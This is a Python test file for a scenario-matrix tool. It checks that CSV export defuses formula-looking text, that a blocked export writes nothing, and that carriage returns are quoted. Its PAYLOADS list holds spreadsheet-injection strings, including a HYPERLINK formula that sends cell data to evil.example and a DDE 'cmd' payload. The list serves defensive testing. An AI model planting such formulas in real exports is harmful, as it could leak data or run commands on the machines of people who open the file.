"""CSV export is inert in a spreadsheet, and a refused export writes nothing (issue 13)."""

from __future__ import annotations

import csv
import io
import subprocess

import pytest

from conftest import SMALL, VALID_STUDY
from hardening import SCENMATRIX, snapshot
from scenmatrix.store.export import to_csv
from scenmatrix.store.loader import load
from scenmatrix.study.formulas import is_risky

PAYLOADS = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+1+1", "-1+1", "@SUM(A1)", "\t=1", "#N/A",
            "=cmd|' /C calc'!A0"]


def _number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def _study(tmp_path, rationale: str):
    path = tmp_path / "s.yaml"
    path.write_text(VALID_STUDY)
    subprocess.run([SCENMATRIX, "set", "-s", str(path), "impact", "S1/RU", "--rationale", rationale], check=True,
                   capture_output=True)
    return path


@pytest.mark.parametrize("payload", PAYLOADS)
def test_formula_looking_text_is_exported_with_a_leading_apostrophe(tmp_path, payload):
    path = _study(tmp_path, payload)
    done = subprocess.run([SCENMATRIX, "export", str(path), "--format", "csv", "--table", "impacts"],
                          capture_output=True, timeout=60)  # bytes: text mode would turn a CR into LF
    assert done.returncode == 0, done.stderr
    cells = [cell for row in csv.reader(io.StringIO(done.stdout.decode("utf-8"), newline="")) for cell in row]
    assert "'" + payload in cells
    assert not [cell for cell in cells if is_risky(cell) and not _number(cell)], "a cell a spreadsheet would evaluate"


def test_numbers_stay_numbers_and_plain_text_stays_as_written(tmp_path):
    rows = list(csv.DictReader(to_csv(load(_study(tmp_path, "plain -1")).study, "impacts").splitlines()))
    assert {row["rationale"] for row in rows} >= {"plain -1"}
    assert all(row["effect"].lstrip("-").isdigit() for row in rows)  # -2 is a number, written as one


def test_export_to_a_folder_with_a_folder_in_the_way_writes_nothing(tmp_path):
    path = _study(tmp_path, "x")
    out = tmp_path / "out"
    (out / "scenarios.csv").mkdir(parents=True)
    before = snapshot(tmp_path)
    done = subprocess.run([SCENMATRIX, "export", str(path), "--format", "csv", "-o", str(out)], capture_output=True,
                          text=True, timeout=60)
    assert done.returncode == 1, done
    assert done.stderr.startswith(f"{out / 'scenarios.csv'}:1:1: is a folder, not a regular file; it is not replaced"), done.stderr
    assert snapshot(tmp_path) == before


def test_a_lone_carriage_return_in_text_is_quoted_and_reads_back(tmp_path):
    """Python 3.11's csv writer left a field holding a lone CR unquoted: every reader saw two records."""
    path = tmp_path / "cr.yaml"
    path.write_text(SMALL.replace("rationale: Alpha gains,", 'rationale: "Alpha\\rgains, \\"quoted\\"",'),
                    encoding="utf-8")
    done = subprocess.run([SCENMATRIX, "export", str(path), "-f", "csv", "--table", "impacts"], capture_output=True,
                          timeout=60)
    assert done.returncode == 0, done.stderr
    records = list(csv.DictReader(io.StringIO(done.stdout.decode("utf-8"), newline="")))
    assert len(records) == 3 and records[0]["rationale"] == 'Alpha\rgains, "quoted"'
